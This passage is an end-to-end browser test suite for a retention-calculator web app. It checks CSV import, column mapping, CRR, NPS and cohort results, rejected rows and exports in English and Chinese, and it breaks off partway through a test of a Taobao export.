// SPDX-License-Identifier: MIT
// Copyright (c) 2026 Retention Calculator contributors
// "Your data" in real Chromium: files dropped on #drop-zone (DataTransfer), picked by paste or from
// the sample, read in the data worker. Every number on screen is checked against rc.analyze called
// here in Node on the same bytes with the same options, formatted by the page's own formatters, so
// the page, the worker and the core have to agree; nothing expected is written by hand.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';

import { FORBIDDEN, column, dropFile, eventually, foreignRequests, openPage, resultsDrawn, useBrowser } from './harness.mjs';
import { createRetention } from '../../dist/retention.mjs';
import { makeFormat } from '../../web/format.js';
import { MESSAGES, translator } from '../../web/i18n.js';
import { messageText } from '../../web/messages.js';
import { parseCsv, toCsv } from '../../web/csv.js';
import { sampleOrdersCsv } from '../../web/sample.js';
import { expectedFor } from '../data/exports/expected.mjs';

const OUTPUT = new URL('./output/', import.meta.url);
const FIXTURES = new URL('./fixtures/data/', import.meta.url);

const env = useBrowser();
const rcPromise = createRetention();

const fixture = (name) => readFile(new URL(name, FIXTURES));

/** Opens the page at #data, runs `body`, then checks requests, console and on-screen text. */
async function withPage(lang, body, options = {}) {
  const opened = await openPage(env.browser, `${env.server.url}?lang=${lang}#data`, {
    locale: lang === 'zh-CN' ? 'zh-CN' : 'en-US',
    ...options,
  });
  const dialogs = [];
  opened.page.on('dialog', (d) => {
    dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  try {
    await body(opened.page, opened);
    const text = await opened.page.evaluate(() => document.getElementById('data').innerText);
    assert.doesNotMatch(text, FORBIDDEN, 'nothing in the data section reads NaN, Infinity, undefined or null');
  } finally {
    await opened.context.close();
  }
  assert.deepEqual(dialogs, [], 'no dialog opened');
  assert.deepEqual(foreignRequests(opened.requests, env.origin), [], 'no request leaves the server');
  assert.deepEqual(opened.problems, [], 'no console error and no page error');
}

/** The AnalyzeOptions the mapping step sends for what detection found (plus overrides). */
function optionsFrom(inspection, overrides = {}) {
  const columns = {};
  inspection.columns.forEach((c, i) => {
    if (c.role !== 'ignore') columns[c.role] = i;
  });
  const options = {
    kind: inspection.kind,
    columns,
    header: inspection.dialect.header,
    delimiter: inspection.dialect.delimiter,
    decimal: inspection.dialect.decimal,
    period: 'month',
    maxRejections: 100,
  };
  if (inspection.dialect.dateOrder) options.dateOrder = inspection.dialect.dateOrder;
  if (inspection.kind === 'orders') options.activityWindow = 1;
  return { ...options, ...overrides };
}

const mapping = (page) => page.locator('#data-map');

/** Waits for the mapping step and returns the role chosen for each column, in order. */
async function rolesOnScreen(page) {
  await mapping(page).waitFor({ state: 'visible' });
  return page.locator('#data-columns-body select').evaluateAll((selects) => selects.map((s) => s.value));
}

async function analyse(page) {
  await page.click('#data-analyse');
  await resultsDrawn(page);
  await eventually(async () => assert.equal(await page.getAttribute('#data-results', 'aria-busy'), 'false'));
}

/** The totals line the user reads, in the page's words. */
function totalsText(lang, fmt, a) {
  return MESSAGES[lang]['data.totals']
    .replace('{read}', fmt.count(a.rows.read))
    .replace('{used}', fmt.count(a.rows.used))
    .replace('{excluded}', fmt.count(a.rows.excluded))
    .replace('{skipped}', fmt.count(a.rows.skipped))
    .replace('{rejected}', fmt.count(a.rows.rejected));
}

/** Checks the totals and the CRR series of the period table against the Node analysis. */
async function expectPeriods(page, lang, fmt, a) {
  const m = MESSAGES[lang];
  assert.equal(await page.locator('#data-totals').textContent(), totalsText(lang, fmt, a));
  assert.equal(a.rows.read, a.rows.used + a.rows.excluded + a.rows.skipped + a.rows.rejected);
  assert.ok(a.periods.length > 1, 'the file spans several periods');
  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.period']), a.periods.map((p) => p.label));
  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.S']), a.periods.map((p) => fmt.count(p.customersStart)));
  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.N']), a.periods.map((p) => fmt.count(p.acquired)));
  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.E']), a.periods.map((p) => fmt.count(p.customersEnd)));
  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.crr']), a.periods.map((p) => fmt.pct(p.crr)));
  assert.deepEqual(await column(page, 'data-periods-table', m['data.col.churn']), a.periods.map((p) => fmt.pct(p.churn)));
  // The chart exists and has as many points as there are periods.
  const points = await page.locator('#data-chart-crr').evaluate((host) => host.querySelectorAll('canvas').length);
  assert.equal(points, 1, 'the CRR chart is drawn');
}

/** Checks the rows-not-used block against the Node analysis, reasons in the page's language. */
async function expectRejections(page, lang, fmt, a) {
  const m = MESSAGES[lang];
  assert.ok(a.rows.rejected > 0, 'the fixture has rows to reject');
  assert.equal(
    await page.locator('#data-rejected-title').textContent(),
    m['data.unused.title'].replace('{n}', fmt.count(a.rows.excluded + a.rows.skipped + a.rows.rejected)),
  );
  assert.equal(
    await page.locator('#data-unused-counts').textContent(),
    m['data.unused.counts'].replace('{excluded}', fmt.count(a.rows.excluded)).replace('{skipped}', fmt.count(a.rows.skipped)).replace('{rejected}', fmt.count(a.rows.rejected)),
  );
  const shown = a.rejections.slice(0, 20);
  assert.deepEqual(await column(page, 'data-rejected-table', m['data.rejected.line']), shown.map((r) => fmt.num(r.line)));
  assert.deepEqual(await column(page, 'data-rejected-table', m['data.rejected.reason']), shown.map((r) => m[`data.reason.${r.reason}`]));
  // Each row's message written in the page's language from its id and parameters; never the
  // core's English sentence on the Chinese page.
  const messages = await column(page, 'data-rejected-table', m['data.rejected.message']);
  assert.deepEqual(messages, shown.map((r) => messageText(r, translator(lang), fmt)));
  if (lang !== 'en') messages.forEach((text, i) => assert.notEqual(text, shown[i].message));
  for (const r of shown) assert.ok(r.messageId && MESSAGES[lang][`msg.${r.messageId}`], `a text for ${r.messageId}`);
}

/**
 * The file of rows not used the page offers, from the core's unusedCsv: each row's line, fate,
 * column (or "whole row"), reason and message in the page's language, and the row as the file had it.
 */
function unusedFile(lang, fmt, a) {
  const t = translator(lang);
  const [head, ...body] = parseCsv(a.unusedCsv);
  const at = (name) => head.indexOf(name);
  const m = MESSAGES[lang];
  const header = [m['data.rejected.line'], m['data.unused.fate'], ...['column', 'reason', 'message', 'row'].map((key) => m[`data.rejected.${key}`])];
  const rows = body.map((r) => [
    r[at('line')],
    t(`data.fate.${r[at('fate')]}`),
    r[at('column')] || t('data.rejected.wholeRow'),
    t(`data.reason.${r[at('reason')]}`),
    messageText({ messageId: r[at('messageId')], params: JSON.parse(r[at('params')]) }, t, fmt),
    r[at('row')],
  ]);
  return `\ufeff${toCsv(header, rows)}`;
}

/** Clicks a button that downloads a CSV and returns the file's text. */
async function downloaded(page, selector) {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click(selector)]);
  const text = await readFile(await download.path(), 'utf8');
  return { name: download.suggestedFilename(), text };
}

describe('the data worker', () => {
  test('speaks {id, action, payload}: the view of a held analysis, files of every customer, progress, errors, cancel', async () => {
    const rc = await rcPromise;
    const text = `customer_id,order_date,amount\n${Array.from({ length: 40000 }, (_, i) => `c${i % 900},2024-0${1 + (i % 6)}-1${i % 10},${(i % 50) + 1}.25`).join('\n')}\n`;
    const expected = await rc.analyze(text, { period: 'month' });
    await withPage('en', async (page) => {
      const replies = await page.evaluate(async (text) => {
        const worker = new Worker('/worker.js', { type: 'module' });
        const messages = [];
        const wait = (id) =>
          new Promise((resolve) => {
            worker.addEventListener('message', function on(e) {
              messages.push(e.data);
              if (e.data.id === id && !e.data.progress) {
                worker.removeEventListener('message', on);
                resolve(e.data);
              }
            });
          });
        worker.postMessage({ id: 1, action: 'analyze', payload: { text, options: { period: 'month' } } });
        const ok = await wait(1);
        const analysisId = ok.result.analysisId;
        worker.postMessage({ id: 2, action: 'exportCustomers', payload: { analysisId, columns: ['id', 'frequency'], header: ['id', 'x'], format: 'csv' } });
        const file = await wait(2);
        worker.postMessage({ id: 3, action: 'analyze', payload: { text: 'a,b\n1,2\n', options: { period: 'fortnight' } } });
        const bad = await wait(3);
        // Several megabytes: the API yields to the event loop between its 1 MB chunks, so the cancel
        // message is handled while the job runs.
        const big = text.repeat(6);
        worker.postMessage({ id: 4, action: 'analyze', payload: { text: big, options: {} } });
        worker.postMessage({ id: 0, action: 'cancel', payload: { id: 4 } });
        const cancelled = await wait(4);
        // The analysis held is still the first one: a job naming another id is refused.
        worker.postMessage({ id: 5, action: 'exportCustomers', payload: { analysisId: analysisId + 1, columns: ['id'], header: ['id'], format: 'csv' } });
        const stale = await wait(5);
        worker.terminate();
        const c = ok.result.customers;
        return {
          ok: { rows: ok.result.rows, periods: ok.result.periods.length, hasTable: 'table' in c, hasUnusedCsv: 'unusedCsv' in ok.result, tableRows: c.tableRows, preview: c.preview },
          // Decoded with its BOM kept (Blob.text() would drop it).
          csv: file.result ? { rows: file.result.rows, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await file.result.blob.arrayBuffer()) } : file,
          bad,
          cancelled,
          stale: stale.error,
          progress: messages.filter((m) => m.id === 1 && m.progress).map((m) => m.progress),
        };
      }, text);
      const table = expected.customers.table;
      assert.deepEqual(replies.ok.rows, expected.rows);
      assert.equal(replies.ok.periods, expected.periods.length);
      assert.equal(replies.ok.hasTable, false, 'the customer table stays in the worker');
      assert.equal(replies.ok.hasUnusedCsv, false, 'the rows not used stay in the worker');
      assert.equal(replies.ok.tableRows, table.id.length);
      assert.deepEqual(replies.ok.preview.map((r) => r.id), table.id.slice(0, 100), 'the first 100 customers, in the core\'s order');
      assert.deepEqual(replies.ok.preview.map((r) => r.frequency), [...table.frequency].slice(0, 100));
      // The file has every customer, one line each after the BOM and the header.
      assert.equal(replies.csv.text[0], '\ufeff', 'a BOM for spreadsheet programs');
      const lines = parseCsv(replies.csv.text.slice(1));
      assert.equal(replies.csv.rows, table.id.length);
      assert.deepEqual(lines[0], ['id', 'x']);
      assert.deepEqual(lines.slice(1).map((r) => r[0]), table.id);
      assert.deepEqual(lines.slice(1).map((r) => Number(r[1])), [...table.frequency]);
      assert.ok(replies.progress.length >= 1, 'progress is reported');
      const last = replies.progress.at(-1);
      assert.ok(last.bytes > 0 && last.rows > 0 && last.bytes <= Buffer.byteLength(text), JSON.stringify(last));
      const bad = replies.bad.error;
      assert.equal(bad.name, 'RetentionError');
      assert.equal(bad.field, 'period');
      assert.equal(bad.messageId, 'notOneOf', 'the error carries its catalogue id');
      assert.equal(bad.params.field, 'period');
      assert.ok(bad.code && bad.message);
      assert.deepEqual(replies.cancelled.error, { name: 'AbortError', code: '', field: '', message: 'Cancelled' });
      assert.equal(replies.stale.name, 'WorkerError');
    });
  });
});

describe('your data', () => {
  test('a Shopify-like orders export (line items): mapping, numbers, rejected rows, exports, "use my numbers"', async () => {
    const rc = await rcPromise;
    const bytes = await fixture('shopify-orders.csv');
    const inspection = await rc.inspect(bytes);
    assert.equal(inspection.kind, 'orders');
    const analysis = await rc.analyze(bytes, optionsFrom(inspection));
    const fmt = makeFormat('en', 'USD');
    await withPage('en', async (page) => {
      await dropFile(page, 'shopify-orders.csv', bytes);
      const roles = await rolesOnScreen(page);
      assert.deepEqual(roles, inspection.columns.map((c) => c.role), 'the roles shown are the ones detected');
      const names = inspection.columns.map((c) => c.name);
      assert.equal(roles[names.indexOf('Email')], 'customerId');
      // The payment date, the status, the merchandise after discounts (not the Total).
      assert.equal(roles[names.indexOf('Paid at')], 'date');
      assert.equal(roles[names.indexOf('Created at')], 'ignore');
      assert.equal(roles[names.indexOf('Financial Status')], 'status');
      assert.equal(roles[names.indexOf('Subtotal')], 'amount');
      assert.equal(await page.locator('#data-kind').inputValue(), 'orders');
      assert.equal(await page.locator('#data-kind-detected').textContent(), 'Detected: Orders');
      // The role choices are the ones of orders only (and "not used").
      const offered = await page.locator('#data-role-0 option').evaluateAll((os) => os.map((o) => o.value));
      assert.deepEqual(offered, ['ignore', 'customerId', 'date', 'amount', 'status', 'refund', 'shipping', 'tax', 'balance', 'quantity', 'orderId']);
      // Samples and names from the file appear as text.
      assert.match(await page.locator('#data-columns-body').innerText(), /alice@example\.com|bob@example\.com|grace@example\.com/);
      // Another separator reads the file again: one column, nothing recognised; back to commas.
      const wrong = await rc.inspect(bytes, { delimiter: ';', header: true });
      await page.locator('#data-delimiter').selectOption(';');
      await eventually(async () => assert.equal(await page.locator('#data-columns-body tr').count(), wrong.columns.length));
      assert.equal(await page.locator('#data-kind').inputValue(), wrong.kind ?? '');
      await page.locator('#data-delimiter').selectOption(',');
      await eventually(async () => assert.deepEqual(await rolesOnScreen(page), inspection.columns.map((c) => c.role)));
      assert.equal(await page.locator('#data-kind').inputValue(), 'orders');

      await analyse(page);
      await expectPeriods(page, 'en', fmt, analysis);
      await expectRejections(page, 'en', fmt, analysis);
      const metric = (key) => page.locator(`#data-customers [data-metric="${key}"] dd`).textContent();
      const c = analysis.customers;
      assert.equal(c.count, c.table.id.length, 'the count is the number of customers in the table');
      assert.equal(await metric('count'), fmt.count(c.count));
      assert.equal(await metric('repeatRate'), fmt.pct(c.repeatRate));
      assert.equal(await metric('averageOrderValue'), fmt.money(c.averageOrderValue));
      assert.equal(await metric('historicalClv'), fmt.money(c.historicalClv));
      // Per-customer table: ids and x as the core computed them, in the core's order.
      const ids = await column(page, 'data-customers-table-table', 'Customer');
      assert.deepEqual(ids, c.table.id.slice(0, 100));
      assert.deepEqual(await column(page, 'data-customers-table-table', 'x (repeat purchases)'), [...c.table.frequency].slice(0, 100).map((x) => fmt.num(x, 0)));
      // The cohort heatmap: one row per cohort, +0 is always 100%.
      const plus0 = await column(page, 'data-cohorts-table', '+0');
      assert.deepEqual(plus0, analysis.cohorts.labels.map(() => fmt.pct(1, 0)));
      // Each cell's colour is its share in 5% steps: the class of every filled cell, from the core's shares.
      const levels = await page.locator('#data-cohorts-table tbody tr').evaluateAll((rows) =>
        rows.map((row) => [...row.querySelectorAll('td.heat:not(.is-empty)')].map((td) => Number(/heat-(\d+)/.exec(td.className)?.[1]))));
      assert.deepEqual(levels, analysis.cohorts.activeShare.map((row) => row.map((s) => Math.round(Math.min(1, Math.max(0, s)) * 20))));
      await page.getByRole('radio', { name: 'Revenue' }).check();
      assert.deepEqual(await column(page, 'data-cohorts-table', '+0'), analysis.cohorts.revenue.map((r) => fmt.moneyWhole(r[0])));

      // The rows not used, downloaded: the core's CSV, with formulas neutralised, and a BOM for Excel.
      const unused = await downloaded(page, '#data-unused-download');
      assert.equal(unused.name, 'shopify-orders-unused-rows.csv');
      assert.equal(unused.text, unusedFile('en', fmt, analysis));
      assert.match(unused.text, /^\ufeffLine,Fate,Column,Reason,Details,Row\r\n50,Left out,Financial Status,"Its status \(not a sale, or not paying\)",/, 'the first row not used, in words');
      assert.equal(parseCsv(unused.text.slice(1)).length - 1, analysis.rows.excluded + analysis.rows.skipped + analysis.rows.rejected, 'every row not used is in the file');
      // A table export: one line per period, the rates as fractions at full precision.
      const periods = await downloaded(page, '[data-export="periods"]');
      const rows = parseCsv(periods.text.slice(1));
      assert.equal(rows.length, analysis.periods.length + 1);
      assert.equal(rows[0][0], 'Period');
      const crrAt = rows[0].indexOf('CRR');
      assert.deepEqual(rows.slice(1).map((r) => r[crrAt]), analysis.periods.map((p) => (p.crr === null ? '' : String(p.crr))));

      await page.screenshot({ path: new URL('data-orders-1280.png', OUTPUT).pathname, fullPage: false });
      await page.locator('#data').screenshot({ path: new URL('data-orders-section-1280.png', OUTPUT).pathname });

      // "Use my numbers": S, N and E − R of the period named in the detail land in the CRR calculator,
      // whose CRR = (E − N) / S then equals the CRR measured here.
      const detail = await page.locator('[data-use="crr"] + p').textContent();
      const label = /^Period (\S+):/.exec(detail)?.[1];
      const p = analysis.periods.find((q) => q.label === label);
      assert.ok(p && p.customersStart > 0, `the detail names a period with customers at its start: ${detail}`);
      await page.click('[data-use="crr"]');
      const box = (name) => page.getByRole('spinbutton', { name, exact: true });
      assert.equal(await box('Customers at start').inputValue(), String(p.customersStart));
      assert.equal(await box('New customers acquired').inputValue(), String(p.acquired));
      assert.equal(await box('Customers at end').inputValue(), String(p.customersEnd - p.returning));
      assert.equal(await page.locator('[data-out="crr.rate"]').textContent(), fmt.pct(p.crr));
      assert.equal(await page.locator('#crr-period').inputValue(), 'month');
      await eventually(async () => assert.match(page.url(), /crr-start=/), 3000);
      assert.ok(await page.evaluate(() => document.activeElement?.id === 'crr-start'), 'focus lands on the first filled field');
    });
  });

  test('a WooCommerce-like export: semicolons, decimal comma, ambiguous dates asked, a role changed', async () => {
    const rc = await rcPromise;
    const bytes = await fixture('woocommerce-orders.csv');
    const inspection = await rc.inspect(bytes);
    assert.equal(inspection.dialect.delimiter, ';');
    assert.equal(inspection.dialect.decimal, ',');
    assert.equal(inspection.dateOrderAmbiguous, true);
    const names = inspection.columns.map((c) => c.name);
    const email = names.indexOf('Billing Email Address');
    const user = names.indexOf('Customer User');
    const fmt = makeFormat('en', 'USD');
    await withPage('en', async (page) => {
      await dropFile(page, 'woocommerce-orders.csv', bytes);
      await rolesOnScreen(page);
      assert.equal(await page.locator('#data-delimiter').inputValue(), ';');
      assert.equal(await page.locator('#data-decimal').inputValue(), ',');
      // The date order is asked, prominently, with an example from the file.
      const box = page.locator('#data-date-order');
      assert.ok(await box.evaluate((el) => el.classList.contains('is-ambiguous')));
      assert.match(await page.locator('#data-date-order-note').textContent(), /“Order Date” \(e\.g\. \d\d\/\d\d\/2023\)/);
      await page.click('#data-analyse');
      assert.equal(await page.locator('#data-status').textContent(), MESSAGES.en['data.dateOrder.required']);
      assert.ok(await page.locator('#data-results').isHidden());
      await page.getByRole('radio', { name: /^Day first/ }).check();

      // The customer is the e-mail rather than the detected column: the other column is freed.
      const customerNow = (await rolesOnScreen(page)).indexOf('customerId');
      const target = customerNow === email ? user : email;
      await page.locator(`#data-role-${target}`).selectOption('customerId');
      const roles = await rolesOnScreen(page);
      assert.equal(roles[target], 'customerId');
      assert.equal(roles.filter((r) => r === 'customerId').length, 1, 'one column per role');
      assert.equal(await page.locator('input[name="data-date-order"][value="dmy"]').isChecked(), true, 'the choice survives a role change');

      await analyse(page);
      const columns = {};
      roles.forEach((r, i) => {
        if (r !== 'ignore') columns[r] = i;
      });
      const analysis = await rc.analyze(bytes, optionsFrom(inspection, { columns, dateOrder: 'dmy' }));
      assert.equal(analysis.dialect.dateOrder, 'dmy');
      await expectPeriods(page, 'en', fmt, analysis);
      await expectRejections(page, 'en', fmt, analysis);
      assert.equal(
        await page.locator('#data-customers [data-metric="averageOrderValue"] dd').textContent(),
        fmt.money(analysis.customers.averageOrderValue),
      );
    });
  });

  test('a Chinese Excel export in GB18030, in Chinese, on a phone', async () => {
    const rc = await rcPromise;
    const bytes = await fixture('gb18030-orders.csv');
    const inspection = await rc.inspect(bytes);
    assert.equal(inspection.dialect.encoding, 'gb18030');
    const analysis = await rc.analyze(bytes, optionsFrom(inspection));
    const fmt = makeFormat('zh-CN', 'CNY');
    await withPage('zh-CN', async (page) => {
      await dropFile(page, 'gb18030-orders.csv', bytes);
      const roles = await rolesOnScreen(page);
      const names = inspection.columns.map((c) => c.name);
      assert.ok(names.includes('客户ID') && names.includes('订单日期') && names.includes('金额'), names.join());
      assert.equal(roles[names.indexOf('客户ID')], 'customerId');
      assert.equal(roles[names.indexOf('订单日期')], 'date');
      assert.equal(roles[names.indexOf('金额')], 'amount');
      assert.match(await page.locator('#data-encoding').textContent(), /^GB18030/);
      assert.match(await page.locator('#data-columns-body').innerText(), /张三|李四|王五/);
      await analyse(page);
      await expectPeriods(page, 'zh-CN', fmt, analysis);
      await expectRejections(page, 'zh-CN', fmt, analysis);
      assert.equal(await page.locator('#data-customers [data-metric="averageOrderValue"] dd').textContent(), fmt.money(analysis.customers.averageOrderValue));
      // Nothing is wider than the phone's screen but the tables, which scroll inside their box.
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.ok(overflow <= 0, `the page does not scroll sideways (${overflow}px)`);
      await page.locator('#data').screenshot({ path: new URL('data-gb18030-zh-360.png', OUTPUT).pathname });
      // A known error of the core in Chinese.
      await dropFile(page, '空.csv', Buffer.alloc(0));
      const zh = MESSAGES['zh-CN'];
      const empty = await rc.inspect(Buffer.alloc(0)).then(() => null, (err) => err);
      assert.equal(empty?.messageId, 'fileEmpty');
      await eventually(async () =>
        assert.equal(await page.locator('#data-status').textContent(), zh['data.error.inspect'].replace('{message}', zh['msg.fileEmpty'])),
      );
    }, { viewport: { width: 360, height: 780 } });
  });

  test('a survey export: NPS with its margin, the trend with its band, periods and segments, sent to the NPS calculator', async () => {
    const rc = await rcPromise;
    const bytes = await fixture('survey.csv');
    const inspection = await rc.inspect(bytes);
    assert.equal(inspection.kind, 'survey');
    const analysis = await rc.analyze(bytes, optionsFrom(inspection));
    const fmt = makeFormat('en', 'USD');
    const o = analysis.nps.overall;
    await withPage('en', async (page) => {
      await dropFile(page, 'survey.csv', bytes);
      await rolesOnScreen(page);
      assert.equal(await page.locator('#data-kind').inputValue(), 'survey');
      await analyse(page);
      assert.equal(await page.locator('#data-totals').textContent(), totalsText('en', fmt, analysis));
      assert.equal(await page.locator('#data-nps [data-metric="nps"] dd').textContent(), fmt.points(o.score));
      assert.equal(
        await page.locator('#data-nps [data-metric="moe"] dd').textContent(),
        MESSAGES.en['nps.moeValue'].replace('{moe}', fmt.points(o.marginOfError)),
      );
      await expectRejections(page, 'en', fmt, analysis);
      const byPeriod = analysis.nps.byPeriod;
      assert.ok(byPeriod.length >= 2);
      assert.deepEqual(await column(page, 'data-nps-periods-table', 'NPS'), byPeriod.map((p) => fmt.points(p.score)));
      assert.deepEqual(
        await column(page, 'data-nps-periods-table', 'Significant change?'),
        byPeriod.map((p) => (p.change ? (p.change.significant ? 'Yes' : 'No') : '—')),
      );
      assert.deepEqual(await column(page, 'data-nps-segments-table', 'Segment'), analysis.nps.bySegment.map((s) => s.segment));
      assert.deepEqual(await column(page, 'data-nps-segments-table', 'NPS'), analysis.nps.bySegment.map((s) => fmt.points(s.score)));
      // The trend chart has its interval band: uPlot draws the band between the two edge series.
      const chart = await page.locator('#data-chart-nps').evaluate((host) => ({
        canvas: host.querySelectorAll('canvas').length,
        legend: [...host.querySelectorAll('.u-legend .u-label')].map((n) => n.textContent),
      }));
      assert.equal(chart.canvas, 1);
      assert.deepEqual(chart.legend.slice(1), ['NPS', '95% interval, high', '95% interval, low']);

      await page.click('[data-use="nps"]');
      const box = (name) => page.getByRole('spinbutton', { name, exact: true });
      assert.equal(await box('Promoters (9–10)').inputValue(), String(o.promoters));
      assert.equal(await box('Detractors (0–6)').inputValue(), String(o.detractors));
      assert.equal(await page.locator('[data-out="nps.score"]').textContent(), fmt.points(o.score));

      // Switching the language translates the results in place, numbers included.
      await page.getByRole('button', { name: '中文' }).click();
      const zh = makeFormat('zh-CN', 'CNY');
      assert.equal(await page.locator('#data-totals').textContent(), totalsText('zh-CN', zh, analysis));
      assert.equal(await page.locator('#data-nps-title').textContent(), MESSAGES['zh-CN']['data.nps.title']);
      assert.deepEqual(
        await column(page, 'data-nps-periods-table', MESSAGES['zh-CN']['data.col.significant']),
        byPeriod.map((p) => (p.change ? (p.change.significant ? '是' : '否') : '—')),
      );
      assert.equal(await page.locator('#data-kind option:checked').textContent(), MESSAGES['zh-CN']['data.kind.survey']);
    });
  });

  test('customer summaries pasted; an empty file and a binary file are refused with a clear message', async () => {
    const rc = await rcPromise;
    const text = [
      'customer_id,frequency,recency,T,monetary_value',
      'A1,2,30.43,38.86,22.35',
      'A2,1,1.71,38.86,11.77',
      'A3,0,0,38.86,0',
      'A4,0,0,38.86,0',
      'A5,0,0,38.86,0',
      'A6,7,29.43,38.86,73.74',
      'A7,x,1,2,3',
    ].join('\n');
    const inspection = await rc.inspect(text);
    assert.equal(inspection.kind, 'customerSummary');
    const analysis = await rc.analyze(text, optionsFrom(inspection));
    const fmt = makeFormat('en', 'USD');
    await withPage('en', async (page) => {
      await page.locator('#data-paste-box summary').click();
      await page.locator('#data-paste').fill(text);
      await page.click('#data-paste-go');
      await rolesOnScreen(page);
      assert.equal(await page.locator('#data-kind').inputValue(), 'customerSummary');
      assert.ok(await page.locator('#data-period-field').isHidden());
      await analyse(page);
      assert.equal(await page.locator('#data-totals').textContent(), totalsText('en', fmt, analysis));
      await expectRejections(page, 'en', fmt, analysis);
      assert.deepEqual(await column(page, 'data-customers-table-table', 'Customer'), analysis.customers.table.id);
      assert.deepEqual(
        await column(page, 'data-customers-table-table', 'x (repeat purchases)'),
        [...analysis.customers.table.frequency].map((x) => fmt.num(x, 0)),
      );

      // An empty file and a PNG: the core's own sentence, no mapping step, no results.
      for (const [name, bytes] of [
        ['empty.csv', Buffer.alloc(0)],
        ['photo.csv', Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000a49444154789c6300010000050001', 'hex')],
      ]) {
        let message = '';
        try {
          await rc.inspect(bytes);
        } catch (err) {
          // The page writes it from the message's id and parameters, in its own words.
          message = messageText(err, translator('en'), fmt);
        }
        assert.ok(message && !message.startsWith('msg.'), `${name} is refused by rc.inspect`);
        await dropFile(page, name, bytes);
        await eventually(async () =>
          assert.equal(await page.locator('#data-status').textContent(), MESSAGES.en['data.error.inspect'].replace('{message}', message)),
        );
        assert.ok(await page.locator('#data-status').evaluate((el) => el.classList.contains('is-error')));
        assert.ok(await page.locator('#data-map').isHidden());
        assert.ok(await page.locator('#data-results').isHidden());
      }
    });
  });

  test('a subscriptions export and a period-counts file: CRR series, survival cohorts, rejected rows', async () => {
    const rc = await rcPromise;
    const fmt = makeFormat('en', 'USD');
    await withPage('en', async (page) => {
      const subs = await fixture('subscriptions.csv');
      const si = await rc.inspect(subs);
      assert.equal(si.kind, 'subscriptions');
      const sa = await rc.analyze(subs, optionsFrom(si));
      // By keyboard: Enter on the drop zone opens the file picker (its input is clicked), and the
      // file picked there is read. (Playwright's own file-chooser event races with its interception
      // being switched on, so the input is watched directly.)
      await page.evaluate(() => {
        window.pickerOpened = 0;
        document.getElementById('data-file').addEventListener('click', (e) => {
          window.pickerOpened += 1;
          e.preventDefault();
        });
      });
      await page.locator('#drop-zone').focus();
      await page.keyboard.press('Enter');
      assert.equal(await page.evaluate(() => window.pickerOpened), 1, 'Enter opens the picker');
      await page.locator('#data-file').setInputFiles({ name: 'subscriptions.csv', mimeType: 'text/csv', buffer: subs });
      await rolesOnScreen(page);
      assert.equal(await page.locator('#data-map-source').textContent(), 'File: subscriptions.csv');
      await analyse(page);
      await expectPeriods(page, 'en', fmt, sa);
      await expectRejections(page, 'en', fmt, sa);
      assert.deepEqual(await column(page, 'data-periods-table', 'NRR'), sa.periods.map((p) => fmt.pct(p.nrr)));
      assert.deepEqual(await column(page, 'data-periods-table', 'GRR'), sa.periods.map((p) => fmt.pct(p.grr)));
      assert.deepEqual(await column(page, 'data-periods-table', 'Recurring revenue'), sa.periods.map((p) => fmt.money(p.revenue)));
      assert.match(await page.locator('#data-cohorts-title').textContent(), /^Survival by cohort/);
      // Survival: the share of each cohort still subscribed one period after it started.
      assert.deepEqual(
        await column(page, 'data-cohorts-table', '+1'),
        sa.cohorts.labels.map((_, i) => (sa.cohorts.surviving[i][1] === undefined ? '' : fmt.pct(sa.cohorts.surviving[i][1] / sa.cohorts.size[i], 0))),
      );
      assert.deepEqual(await column(page, 'data-cohorts-table', 'Cohort'), sa.cohorts.labels);

      const counts = await fixture('period-counts.csv');
      const ci = await rc.inspect(counts);
      assert.equal(ci.kind, 'periodCounts');
      const ca = await rc.analyze(counts, optionsFrom(ci));
      await dropFile(page, 'period-counts.csv', counts);
      assert.ok(await page.locator('#data-results').isHidden(), 'a new file clears the old results');
      await rolesOnScreen(page);
      assert.ok(await page.locator('#data-window-field').isHidden(), 'no activity window for counts');
      await analyse(page);
      await expectPeriods(page, 'en', fmt, ca);
      await expectRejections(page, 'en', fmt, ca);
    });
  });

  test('zh-CN, a 千牛 export in GB18030: status, refund and payment date chosen, statuses with their rows, the right numbers', async () => {
    const name = 'taobao-orders-gb18030.csv';
    const bytes = await readFile(new URL(`../data/exports/${name}`, import.meta.url));
    const e = expectedFor(name); // the oracle: its own reader and a few lines of logic, never the core
    const fmt = makeFormat('zh-CN', 'CNY');
    const m = MESSAGES['zh-CN'];
    await withPage('zh-CN', async (page) => {
      await dropFile(page, name, bytes);
      const roles = await rolesOnScreen(page);
      const names = await page.locator('#data-columns-body th').allTextContents();
      const role = (column) => roles[names.findIndex((n) => n.trim() === column)];
      assert.equal(role('订单付款时间'), 'date', 'the payment date');
      assert.equal(role('订单创建时间'), 'ignore');
      assert.equal(role('订单状态'), 'status');
      assert.equal(role('退款金额'), 'refund');
      assert.equal(role('买家应付货款'), 'amount', 'merchandise, without 邮费');
      await analyse(page);
      // Every status value with its rows, counted from the file by the oracle's own reader.
      const text = new TextDecoder('gb18030').decode(bytes);
      const rows = text.trim().split(/\r?\n/).slice(1);
      const counts = {};
      for (const line of rows) {
        const status = line.split(',')[10];
        counts[status] = (counts[status] ?? 0) + 1;
      }
      const shown = await column(page, 'data-statuses-table', m['data.statuses.value']);
      const shownRows = await column(page, 'data-statuses-table', m['data.statuses.rows']);
      assert.deepEqual(Object.fromEntries(shown.map((v, i) => [v, shownRows[i]])), Object.fromEntries(Object.entries(counts).map(([k, v]) => [k, fmt.count(v)])));
      // The mapping step listed the same values with their rows, in Chinese.
      const mapShown = await column(page, 'data-map-statuses-table', m['data.statuses.value']);
      const mapRows = await column(page, 'data-map-statuses-table', m['data.statuses.rows']);
      assert.deepEqual(Object.fromEntries(mapShown.map((v, i) => [v, mapRows[i]])), Object.fromEntries(Object.entries(counts).map(([k, v]) => [k, fmt.count(v)])));
      assert.equal(await page.locator('#data-map-statuses-legend').textContent(), m['data.statuses.title']);
